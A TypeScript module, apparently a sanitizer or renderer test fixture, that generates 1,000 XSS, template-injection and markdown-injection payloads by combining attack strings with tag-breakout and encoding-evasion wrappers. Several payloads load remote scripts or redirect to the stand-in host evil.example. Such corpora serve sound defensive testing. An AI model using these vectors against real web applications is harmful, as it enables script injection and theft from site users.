// 1,000 texts that would do something if any of them were read as markup, code or a template: what they would do, in every
// wrapping that has ever let such a thing through.
const acts = [
  "<script>window.pwned=1</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=window.pwned=1>", "<img src=//evil.example/x>", "<svg onload=window.pwned=1>",
  "<svg><script>window.pwned=1</script></svg>", "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>", "<math><mtext><img src=x onerror=window.pwned=1></mtext></math>",
  "<iframe src=javascript:window.pwned=1></iframe>", "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>", "<object data=//evil.example/x></object>", "<embed src=//evil.example/x>",
  "<a href=javascript:window.pwned=1>x</a>", "<form action=//evil.example><button>x</button></form>", "<input autofocus onfocus=window.pwned=1>", "<details open ontoggle=window.pwned=1>",
  "<video><source onerror=window.pwned=1></video>", "<audio src=x onerror=window.pwned=1>", "<body onload=window.pwned=1>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'</style>", "<base href=//evil.example/>", "<b onmouseover=window.pwned=1 style=position:fixed;inset:0>x</b>",
  "<template><script>window.pwned=1</script></template>", "<noscript><img src=x onerror=window.pwned=1></noscript>", "<xmp><script>window.pwned=1</script></xmp>", "<marquee onstart=window.pwned=1>x</marquee>",
  "javascript:window.pwned=1", "data:text/html,<script>window.pwned=1</script>", "{{constructor.constructor('window.pwned=1')()}}", "${window.pwned=1}", "⟦printf \"%s\" .Me.Name⟧", "{{ readFile \"tongbao.toml\" }}",
  "{{< youtube dQw4w9WgXcQ >}}", "[x](javascript:window.pwned=1)", "![x](//evil.example/x.png)", "<javascript:window.pwned=1>", "[x]: javascript:window.pwned=1 \"x\"", "[x](data:text/html,<script>window.pwned=1</script>)",
];

const wrappings: ((act: string) => string)[] = [
  (a) => a, (a) => `"> ${a}`, (a) => `'> ${a}`, (a) => `</textarea>${a}`, (a) => `</title>${a}`, (a) => `</script>${a}`, (a) => `</style>${a}`, (a) => `--> ${a}`, (a) => `]]> ${a}`, (a) => `</bdi></p></li></ol></aside>${a}`,
  (a) => `" onfocus=window.pwned=1 autofocus x="${a}`, (a) => `\` ${a} \``, (a) => `\`\`\`html\n${a}\n\`\`\``, (a) => `**${a}**`, (a) => `> ${a}`, (a) => `- ${a}`, (a) => `# ${a}`, (a) => `[${a}](http://localhost/${a})`,
  (a) => a.replace(/[<>]/g, (c) => `&#${c.charCodeAt(0)};`), (a) => encodeURIComponent(a), (a) => a.replaceAll("<", "<<"), (a) => a.replaceAll("<", "\u003c\t").replaceAll("script", "scr\u200bipt"),
  (a) => a.toUpperCase(), (a) => a.replaceAll("<", "＜").replaceAll(">", "＞"), (a) => `${a}\r\n\r\n<!--`,
];

export const payloads = wrappings.flatMap((wrap) => acts.map((act, i) => `${wrap(act)} 之${i}`));
